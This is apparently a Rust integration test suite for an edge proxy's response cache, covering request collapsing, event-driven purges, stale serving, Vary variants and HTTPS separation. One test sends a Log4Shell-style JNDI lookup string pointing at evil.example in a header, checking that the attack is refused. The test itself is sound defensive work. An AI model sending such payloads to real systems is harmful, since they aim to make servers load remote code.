//! The response cache (`MERIDIAN_EDGE_CACHE=on`) against the real binary, following catalog
//! events on the real NATS JetStream (`NATS_URL`, as `cargo xtask test` exports it).

use std::time::{Duration, Instant};

use meridian_jetstream::Naming;

use crate::helpers::{Caching, Echo, EchoCore, EdgeConfig, TestDir, TestEdge, forged_forwarding};

/// An edge with its cache on, in front of `core`, following the catalog stream of a fresh
/// prefix (declared here); returns once it follows.
async fn cached_edge(
    core: &EchoCore,
    dir: &TestDir,
    rate_limits: bool,
) -> (TestEdge, Naming, async_nats::jetstream::Context) {
    if rate_limits {
        cached_edge_with(core, dir, &[], false).await
    } else {
        cached_edge_with(core, dir, &[("MERIDIAN_EDGE_RATE_LIMITS", "off")], false).await
    }
}

/// [`cached_edge`], with more environment, and HTTPS too if `https`.
async fn cached_edge_with(
    core: &EchoCore,
    dir: &TestDir,
    env: &[(&'static str, &str)],
    https: bool,
) -> (TestEdge, Naming, async_nats::jetstream::Context) {
    let nats_url =
        std::env::var("NATS_URL").unwrap_or_else(|_| "nats://127.0.0.1:14222".to_owned());
    let prefix = format!("e{}", &uuid::Uuid::new_v4().simple().to_string()[..12]);
    let naming = Naming::new(&prefix).unwrap();
    let client = async_nats::connect(&nats_url)
        .await
        .expect("NATS with JetStream (run through cargo xtask test)");
    let jetstream = async_nats::jetstream::new(client);
    meridian_jetstream::declare::declare_streams(&jetstream, &naming)
        .await
        .unwrap();
    let mut config = EdgeConfig::in_front_of(core)
        .with_env("MERIDIAN_EDGE_CACHE", "on")
        .with_env("NATS_URL", &nats_url)
        .with_env("MERIDIAN_NATS_PREFIX", &prefix);
    for (name, value) in env {
        config = config.with_env(name, value);
    }
    if https {
        config = config.with_tls_dir(&dir.path().join("tls"));
    }
    let edge = TestEdge::start(config, dir.path()).await;
    let deadline = Instant::now() + Duration::from_secs(10);
    while !edge.log_text().contains("following catalog events") {
        assert!(
            Instant::now() < deadline,
            "the edge never followed the catalog stream"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    (edge, naming, jetstream)
}

fn cache_state(response: &reqwest::Response) -> String {
    response.headers()["x-cache"].to_str().unwrap().to_owned()
}

#[tokio::test]
async fn a_thousand_concurrent_misses_make_one_upstream_request() {
    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, false).await;
    let requests = (0..1000).map(|_| {
        let request = edge.client.get(edge.url("/products/42?b=2&a=1"));
        async move {
            let response = request.send().await.unwrap();
            assert_eq!(response.status(), 200);
            cache_state(&response)
        }
    });
    let states = futures::future::join_all(requests).await;
    assert_eq!(core.hits(), 1, "the misses were not collapsed");
    assert_eq!(
        states.iter().filter(|s| *s == "MISS").count(),
        1,
        "{states:?}"
    );

    // Same query in another order: the same entry. Another path: its own.
    let again = edge
        .client
        .get(edge.url("/products/42?a=1&b=2"))
        .send()
        .await
        .unwrap();
    assert_eq!(cache_state(&again), "HIT");
    let other = edge
        .client
        .get(edge.url("/products/43"))
        .send()
        .await
        .unwrap();
    assert_eq!(cache_state(&other), "MISS");
    assert_eq!(core.hits(), 2);
}

/// The cache's path hands the request to Pingora's proxy, not to the edge's forwarder: the core
/// must still hear the edge's forwarding headers and request id, never the client's.
#[tokio::test]
async fn a_miss_reaches_the_core_with_the_edges_own_forwarding_headers() {
    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, false).await;
    let response = edge
        .client
        .get(edge.url("/products/7"))
        .headers(forged_forwarding())
        .header("x-request-id", "client-7")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(cache_state(&response), "MISS");
    let seen: Echo = response.json().await.unwrap();
    assert_eq!(seen.header("x-forwarded-for"), ["127.0.0.1"]);
    assert_eq!(seen.header("x-real-ip"), ["127.0.0.1"]);
    assert_eq!(seen.header("x-forwarded-proto"), ["http"]);
    assert_eq!(seen.header("x-forwarded-host"), ["shop.example"]);
    assert_eq!(seen.header("x-request-id"), ["client-7"]);
    assert!(seen.header("x-meridian-user-id").is_empty());
}

#[tokio::test]
async fn signed_in_and_uncacheable_requests_bypass_the_cache() {
    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, true).await;
    for _ in 0..2 {
        let cart = edge.client.get(edge.url("/cart")).send().await.unwrap();
        assert!(!cart.headers().contains_key("x-cache"));
        let cookie = edge
            .client
            .get(edge.url("/products/7"))
            .header("cookie", "session=1")
            .send()
            .await
            .unwrap();
        assert!(!cookie.headers().contains_key("x-cache"));
    }
    assert_eq!(
        core.hits(),
        4,
        "a private request was answered from the cache"
    );
}

/// Publishes a catalog event about `product` as the catalog's outbox relay would.
async fn publish(
    jetstream: &async_nats::jetstream::Context,
    naming: &Naming,
    event_type: &str,
    product: &str,
) {
    let event = serde_json::json!({
        "id": uuid::Uuid::new_v4(),
        "type": event_type,
        "region": "local",
        "aggregate_id": product,
        "aggregate_version": 2,
        "occurred_at": "2026-01-01T00:00:00Z",
        "data": {},
    });
    jetstream
        .publish(naming.event_subject(event_type), event.to_string().into())
        .await
        .unwrap()
        .await
        .unwrap();
}

const PRODUCT: &str = "0190c2a4-5b6e-7c2d-8e4f-0a1b2c3d4e5f";
const OTHER_PRODUCT: &str = "0190c2a4-5b6e-7c2d-8e4f-000000000002";

#[tokio::test]
async fn a_product_update_purges_that_product_and_the_listings_within_a_second() {
    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, naming, jetstream) = cached_edge(&core, &dir, true).await;
    let get = |path: String| edge.client.get(edge.url(&path)).send();
    let (page, other, listing) = (
        format!("/products/{PRODUCT}"),
        format!("/products/{OTHER_PRODUCT}"),
        "/categories".to_owned(),
    );
    for path in [&page, &other, &listing] {
        assert_eq!(cache_state(&get(path.clone()).await.unwrap()), "MISS");
        let hit = get(path.clone()).await.unwrap();
        assert_eq!(cache_state(&hit), "HIT");
        assert!(hit.headers().contains_key("age"), "a hit carries its Age");
    }
    assert_eq!(core.hits(), 3);

    // The product changes: within a second, its page and the listings go to the core again.
    publish(&jetstream, &naming, "catalog.product_updated.v1", PRODUCT).await;
    let changed = Instant::now();
    while cache_state(&get(page.clone()).await.unwrap()) != "MISS" {
        assert!(
            changed.elapsed() < Duration::from_secs(1),
            "still cached a second after the change"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(cache_state(&get(listing.clone()).await.unwrap()), "MISS");
    assert_eq!(
        cache_state(&get(other.clone()).await.unwrap()),
        "HIT",
        "another product's page was purged too"
    );
    assert_eq!(core.hits(), 5);

    // A new product: listings go, pages stay.
    publish(
        &jetstream,
        &naming,
        "catalog.product_created.v1",
        OTHER_PRODUCT,
    )
    .await;
    let created = Instant::now();
    while cache_state(&get(listing.clone()).await.unwrap()) != "MISS" {
        assert!(created.elapsed() < Duration::from_secs(1));
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(cache_state(&get(page.clone()).await.unwrap()), "HIT");

    // Deleted: gone from the cache too.
    publish(
        &jetstream,
        &naming,
        "catalog.product_deleted.v1",
        OTHER_PRODUCT,
    )
    .await;
    let deleted = Instant::now();
    while cache_state(&get(other.clone()).await.unwrap()) != "MISS" {
        assert!(deleted.elapsed() < Duration::from_secs(1));
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

fn served_by(body: &str) -> usize {
    serde_json::from_str::<Echo>(body).unwrap().hit
}

#[tokio::test]
async fn a_stale_answer_is_served_while_one_request_refreshes_it() {
    let core = EchoCore::start_caching(
        "core",
        Caching {
            cache_control: "public, max-age=1, stale-while-revalidate=30",
            vary: None,
            delay: Duration::from_millis(300),
        },
    )
    .await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, false).await;
    let get = || edge.client.get(edge.url("/products/7")).send();
    assert_eq!(cache_state(&get().await.unwrap()), "MISS");
    tokio::time::sleep(Duration::from_millis(1500)).await;

    // Expired but within its stale-while-revalidate window: the old answer, at once, for
    // every concurrent request, while one request to the core refreshes it.
    let answers = futures::future::join_all((0..20).map(|_| async {
        let response = get().await.unwrap();
        (cache_state(&response), response.text().await.unwrap())
    }))
    .await;
    for (state, body) in &answers {
        assert_eq!(state, "STALE");
        assert_eq!(served_by(body), 1);
    }
    // Once the refresh has landed, the new answer is served fresh.
    let refreshing = Instant::now();
    let fresh = loop {
        let response = get().await.unwrap();
        if cache_state(&response) != "STALE" {
            break response;
        }
        assert!(
            refreshing.elapsed() < Duration::from_secs(5),
            "never refreshed"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert_eq!(cache_state(&fresh), "HIT");
    assert_eq!(served_by(&fresh.text().await.unwrap()), 2);
    assert_eq!(core.hits(), 2, "the refresh was not collapsed");
}

#[tokio::test]
async fn a_failing_core_is_covered_by_stale_answers_only_where_allowed() {
    let core = EchoCore::start_caching(
        "core",
        Caching {
            cache_control: "public, max-age=1, stale-if-error=30",
            vary: None,
            delay: Duration::ZERO,
        },
    )
    .await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, false).await;
    let get = |path: &str| edge.client.get(edge.url(path)).send();
    assert_eq!(cache_state(&get("/products/7").await.unwrap()), "MISS");
    tokio::time::sleep(Duration::from_millis(1500)).await;

    core.fail(true);
    let covered = get("/products/7").await.unwrap();
    assert_eq!(covered.status(), 200);
    assert_eq!(cache_state(&covered), "STALE");
    assert_eq!(served_by(&covered.text().await.unwrap()), 1);
    // Nothing stored for it: the core's error goes through.
    let uncovered = get("/products/8").await.unwrap();
    assert_eq!(uncovered.status(), 503);

    core.fail(false);
    let recovered = get("/products/7").await.unwrap();
    assert_eq!(recovered.status(), 200);
    assert_ne!(cache_state(&recovered), "STALE");
    assert_eq!(served_by(&recovered.text().await.unwrap()), 4);
}

#[tokio::test]
async fn answers_that_vary_are_kept_per_variant() {
    let core = EchoCore::start_caching(
        "core",
        Caching {
            cache_control: "public, max-age=60",
            vary: Some("Accept-Language"),
            delay: Duration::ZERO,
        },
    )
    .await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, false).await;
    let get = |language: &'static str| {
        edge.client
            .get(edge.url("/products/7"))
            .header("accept-language", language)
            .send()
    };
    let mut served = Vec::new();
    for language in ["en", "en", "de", "de", "en", "fr"] {
        let response = get(language).await.unwrap();
        let state = cache_state(&response);
        served.push((language, state, served_by(&response.text().await.unwrap())));
    }
    assert_eq!(
        served,
        [
            ("en", "MISS".to_owned(), 1),
            ("en", "HIT".to_owned(), 1),
            ("de", "MISS".to_owned(), 2),
            ("de", "HIT".to_owned(), 2),
            ("en", "HIT".to_owned(), 1),
            ("fr", "MISS".to_owned(), 3),
        ]
    );
}

/// Cached answers come from the front door (ahead of Pingora's request path) only when every
/// phase would have let the request through: an attack in a header, or a client over its
/// rate, is refused as on any other route, and the cached answer is not given.
#[tokio::test]
async fn cached_answers_are_refused_to_attacks_and_to_clients_over_their_rate() {
    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, _, _) =
        cached_edge_with(&core, &dir, &[("MERIDIAN_EDGE_RATE_CLIENT", "1:5")], false).await;
    let get = || edge.client.get(edge.url("/products/7"));
    let first = get().send().await.unwrap();
    assert_eq!(cache_state(&first), "MISS");
    let hit = get().send().await.unwrap();
    assert_eq!(cache_state(&hit), "HIT");
    assert!(hit.headers().contains_key("ratelimit-remaining"));

    let attack = get()
        .header("x-api-version", "${jndi:ldap://evil.example/a}")
        .send()
        .await
        .unwrap();
    assert_eq!(attack.status(), 403, "an attack got a cached answer");
    assert!(!attack.headers().contains_key("x-cache"));

    // A burst of 5: the rest of this second's requests are refused, cached or not.
    let mut statuses = Vec::new();
    for _ in 0..6 {
        statuses.push(get().send().await.unwrap().status().as_u16());
    }
    assert!(statuses.contains(&429), "{statuses:?}");
    assert_eq!(core.hits(), 1);
}

/// One keep-alive connection whose requests alternate between the front door (hits) and
/// Pingora (a miss, a request with a cookie), some of them pipelined in one write.
#[tokio::test]
async fn hits_and_other_requests_share_a_keep_alive_connection() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, _, _) = cached_edge(&core, &dir, false).await;
    let mut connection = tokio::net::TcpStream::connect(edge.http).await.unwrap();
    let get = |path: &str, extra: &str| {
        format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\n{extra}\r\n")
    };
    let mut exchange = async |requests: String, responses: usize| -> Vec<String> {
        connection.write_all(requests.as_bytes()).await.unwrap();
        let mut received = Vec::new();
        let mut buffer = [0u8; 4096];
        while parse_responses(&received).len() < responses {
            let n = tokio::time::timeout(Duration::from_secs(5), connection.read(&mut buffer))
                .await
                .expect("a response in time")
                .unwrap();
            assert!(n > 0, "the edge closed the connection");
            received.extend_from_slice(&buffer[..n]);
        }
        parse_responses(&received)
    };
    let miss = exchange(get("/products/7", ""), 1).await;
    assert_eq!(miss, ["MISS"]);
    let pipelined = [
        get("/products/7", ""),
        get("/products/7", "Cookie: s=1\r\n"),
        get("/products/7", ""),
    ]
    .concat();
    assert_eq!(exchange(pipelined, 3).await, ["HIT", "-", "HIT"]);
    let again = [get("/products/8", ""), get("/products/7", "")].concat();
    assert_eq!(exchange(again, 2).await, ["MISS", "HIT"]);
    assert_eq!(core.hits(), 3, "the cookie's request and two misses");
}

/// The `X-Cache` of each complete response in `bytes` (`-` for none).
fn parse_responses(mut bytes: &[u8]) -> Vec<String> {
    let mut states = Vec::new();
    loop {
        let mut headers = [httparse::EMPTY_HEADER; 32];
        let mut response = httparse::Response::new(&mut headers);
        let Ok(httparse::Status::Complete(head)) = response.parse(bytes) else {
            return states;
        };
        let header = |name: &str| {
            response
                .headers
                .iter()
                .find(|h| h.name.eq_ignore_ascii_case(name))
                .map(|h| String::from_utf8_lossy(h.value).into_owned())
        };
        let length: usize = header("content-length").unwrap().parse().unwrap();
        if bytes.len() < head + length {
            return states;
        }
        states.push(header("x-cache").unwrap_or_else(|| "-".to_owned()));
        bytes = &bytes[head + length..];
    }
}

#[tokio::test]
async fn https_answers_are_cached_apart_from_plain_ones_over_h1_and_h2() {
    let core = EchoCore::start_cacheable("core").await;
    let dir = TestDir::new();
    let (edge, _, _) =
        cached_edge_with(&core, &dir, &[("MERIDIAN_EDGE_RATE_LIMITS", "off")], true).await;
    let client = |h2: bool| {
        let builder = reqwest::Client::builder()
            .no_proxy()
            .danger_accept_invalid_certs(true);
        if h2 { builder } else { builder.http1_only() }
            .build()
            .unwrap()
    };
    let (h1, h2) = (client(false), client(true));
    let url = edge.https_url("/products/7");
    let first = h1.get(&url).send().await.unwrap();
    assert_eq!(cache_state(&first), "MISS");
    let again = h1.get(&url).send().await.unwrap();
    assert_eq!(again.version(), reqwest::Version::HTTP_11);
    assert_eq!(cache_state(&again), "HIT");
    let over_h2 = h2.get(&url).send().await.unwrap();
    assert_eq!(over_h2.version(), reqwest::Version::HTTP_2);
    assert_eq!(cache_state(&over_h2), "HIT");
    let plain = edge
        .client
        .get(edge.url("/products/7"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        cache_state(&plain),
        "MISS",
        "an HTTPS answer served over plain HTTP"
    );
    assert_eq!(core.hits(), 2);
}
